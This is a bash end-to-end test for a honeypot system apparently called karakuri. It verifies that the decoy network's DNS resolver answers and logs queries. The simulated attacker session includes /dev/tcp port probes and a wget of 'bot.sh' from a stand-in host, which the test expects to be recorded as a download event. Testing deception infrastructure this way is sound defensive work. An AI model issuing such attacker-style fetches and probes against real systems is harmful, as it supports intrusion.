#!/usr/bin/env bash
# DNS through karakuri's resolver: a gateway's /etc/resolv.conf names the
# LAN's .1 and nothing else; from an SSH session there, getent resolves a
# name (the same address each time, one the fetcher answers for), raw
# queries (perl: the image has no dig) get answers over UDP and TCP, to the
# LAN's .1 and to any address off the machine; AAAA gets no records, a
# reverse lookup of a LAN address NXDOMAIN; a wget by name reaches the
# fetcher and is a file.download with that Host; every query is a dns.query
# (qname, qtype, answer, the honeynet); a decoy resolves through its own
# LAN's .1 the same way. The resolver's port is reachable through the
# redirect alone.
. "$KARAKURI_SRC/tests/e2e/lib.sh"
e2e_start_ssh_frontend 10.213.0.0/16 "[honeynet]
pool = 1"
login() { e2e_as_attacker sshpass -p pw ssh "${SSHO[@]}" -p $port eve@"$ATT_HOST_IP" "$@"; }
ev() { "$KARAKURI" -c "$conf" events --json --type "$1"; }
login true || e2e_fail "login"
hn=$("$KARAKURI" -c "$conf" hosts --json | jq -c --arg n "src-$ATT_IP" 'select(.honeynet == $n)')
gw=$(jq -r .gateway.ip <<<"$hn")
[[ "$gw" =~ ^10\.213\. ]] || e2e_fail "gateway: '$gw'"
bridge=${gw%.*}.1
dport=10853
ss -lun | grep -q ":$dport " || e2e_fail "nothing listens on udp $dport: $(grep -i resolver "$E2E_TMP/karakuri.log")"
ss -ltn | grep -q ":$dport " || e2e_fail "nothing listens on tcp $dport"

# A raw query for NAME of TYPE to ADDR:53 over PROTO; prints
# "R <tag> rcode=N an=N a=A.B.C.D" when an answer comes back.
query() { # tag proto addr name type
  printf '%s' "perl -MIO::Socket::INET -e '
my (\$tag, \$proto) = (q($1), q($2));
my \$s = IO::Socket::INET->new(Proto => \$proto, PeerAddr => q($3), PeerPort => 53, Timeout => 3) or exit 0;
my \$q = pack(q(n6), 0x4b4b, 0x0100, 1, 0, 0, 0);
\$q .= chr(length) . \$_ for split /\\./, q($4);
\$q .= pack(q(Cn2), 0, $5, 1);
my \$r = q();
eval { local \$SIG{ALRM} = sub { die }; alarm 3;
  if (\$proto eq q(tcp)) { \$s->send(pack(q(n), length \$q) . \$q); my \$l; \$s->read(\$l, 2); \$s->read(\$r, unpack(q(n), \$l)); }
  else { \$s->send(\$q); \$s->recv(\$r, 512); }
  alarm 0 };
exit 0 if length \$r < 12;
my @h = unpack(q(n6), \$r);
my \$a = \$h[3] ? join(q(.), unpack(q(C4), substr(\$r, -4))) : q(none);
printf qq(R %s rcode=%d an=%d a=%s\\n), \$tag, \$h[1] & 15, \$h[3], \$a;
'"
}
ext=203.0.113.53
out=$(login "cat /etc/resolv.conf | sed 's/^/conf: /';
  echo getent1 \$(timeout 8 getent hosts example.com); echo getent2 \$(timeout 8 getent hosts EXAMPLE.com);
  $(query udp-bridge udp "$bridge" www.example.org 1); $(query udp-ext udp "$ext" www.example.org 1);
  $(query tcp-ext tcp "$ext" tcp.example.org 1); $(query aaaa udp "$bridge" www.example.org 28);
  $(query ptr udp "$bridge" 77.${gw%.*}.in-addr.arpa 12);
  s=\$(date +%s%N); timeout 20 wget -q -O /dev/null http://files.example.net/bot.sh; echo wget rc=\$? ms=\$(( (\$(date +%s%N) - s) / 1000000 ));
  echo done" 2>&1)
e2e_log "$(tr '\n' ' ' <<<"$out")"
[[ "$out" == *done* ]] || e2e_fail "the lookups did not run: $out"

conf_lines=$(sed -n 's/^conf: //p' <<<"$out")
e2e_assert_eq "nameserver $bridge" "$conf_lines" "the gateway's /etc/resolv.conf"
a1=$(awk '$1 == "getent1" {print $2}' <<<"$out")
a2=$(awk '$1 == "getent2" {print $2}' <<<"$out")
[[ "$a1" =~ ^[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+$ ]] || e2e_fail "getent hosts example.com: '$a1'"
e2e_assert_eq "$a1" "$a2" "the address of example.com, asked twice"
r() { grep "^R $1 " <<<"$out" || e2e_fail "no answer for $1: $out"; }
r udp-bridge | grep -q "rcode=0 an=1 a=" || e2e_fail "udp to the bridge: $(r udp-bridge)"
e2e_assert_eq "$(r udp-bridge | sed 's/.* a=//')" "$(r udp-ext | sed 's/.* a=//')" \
  "www.example.org from the bridge and from $ext"
r tcp-ext | grep -q "rcode=0 an=1 a=" || e2e_fail "tcp to $ext: $(r tcp-ext)"
r aaaa | grep -q "rcode=0 an=0" || e2e_fail "AAAA: $(r aaaa)"
r ptr | grep -q "rcode=3 an=0" || e2e_fail "PTR of a LAN address: $(r ptr)"

# wget by name: resolved, then the fetcher's 404 (exit 8), quickly.
line=$(grep "^wget rc=" <<<"$out") || e2e_fail "wget did not run"
[[ "$line" == *rc=8* ]] || e2e_fail "wget by name: $line"
ms=$(sed 's/.* ms=//' <<<"$line")
((ms < 5000)) || e2e_fail "wget by name took $ms ms"
sleep 1
ev file.download >"$E2E_TMP/dl.json"
jq -se --arg s "$gw" 'any(.[]; .url == "http://files.example.net/bot.sh" and .host == "files.example.net"
  and .tool == "wget" and .src_ip == $s)' "$E2E_TMP/dl.json" >/dev/null ||
  e2e_fail "no file.download for the wget by name: $(cat "$E2E_TMP/dl.json")"

# Every query recorded.
ev dns.query >"$E2E_TMP/dns.json"
q() { # qname qtype jq-condition
  jq -se --arg n "$1" --arg t "$2" --arg s "$gw" --arg h "src-$ATT_IP" \
    "any(.[]; .qname == \$n and .qtype == \$t and .src_ip == \$s and .honeynet == \$h and ($3))" \
    "$E2E_TMP/dns.json" >/dev/null || e2e_fail "no dns.query for $1 $2 ($3): $(cat "$E2E_TMP/dns.json")"
}
q example.com A ".answer == \"$a1\" and .rcode == \"NOERROR\" and .proto == \"udp\""
q EXAMPLE.com A ".answer == \"$a1\""
q www.example.org A ".answer != null"
q tcp.example.org A ".proto == \"tcp\" and .dst_ip == \"$ext\""
q www.example.org AAAA ".rcode == \"NOERROR\" and .answer == null"
q "77.${gw%.*}.in-addr.arpa" PTR ".rcode == \"NXDOMAIN\""
q files.example.net A ".answer != null"

# A decoy resolves through its own LAN's .1.
target=$(jq -r '.hosts[0].ip' <<<"$hn")
login "timeout 8 bash -c 'exec 3<>/dev/tcp/$target/22 && head -c 4 <&3'" >/dev/null 2>&1 || true
decoy=$("$KARAKURI" -c "$conf" hosts --json | jq -r --arg n "src-$ATT_IP" --arg ip "$target" \
  'select(.honeynet == $n) | .hosts[] | select(.ip == $ip) | .container // empty')
[[ -n "$decoy" ]] || e2e_fail "no decoy container for $target"
e2e_assert_eq "nameserver $bridge" "$(docker exec "$decoy" cat /etc/resolv.conf)" "the decoy's /etc/resolv.conf"
da=$(docker exec "$decoy" timeout 8 getent hosts example.com | awk '{print $1}')
e2e_assert_eq "$a1" "$da" "example.com from the decoy"
sleep 1
ev dns.query | jq -se --arg s "$target" 'any(.[]; .src_ip == $s and .qname == "example.com")' >/dev/null ||
  e2e_fail "no dns.query from the decoy"

# The resolver's port through the redirect alone: not dialled directly from
# the gateway, the attacker's side or the host's loopback.
out=$(login "timeout 3 bash -c ': >/dev/tcp/$bridge/$dport' 2>/dev/null && echo OPEN-BRIDGE; echo done" 2>&1)
[[ "$out" == *done* && "$out" != *OPEN* ]] || e2e_fail "the resolver's port from the gateway: $out"
e2e_as_attacker timeout 3 bash -c ": >/dev/tcp/$ATT_HOST_IP/$dport" 2>/dev/null &&
  e2e_fail "the resolver's port answers the attacker's side"
timeout 3 bash -c ": >/dev/tcp/127.0.0.1/$dport" 2>/dev/null &&
  e2e_fail "the resolver's port answers on the host's loopback"
e2e_log "ok"
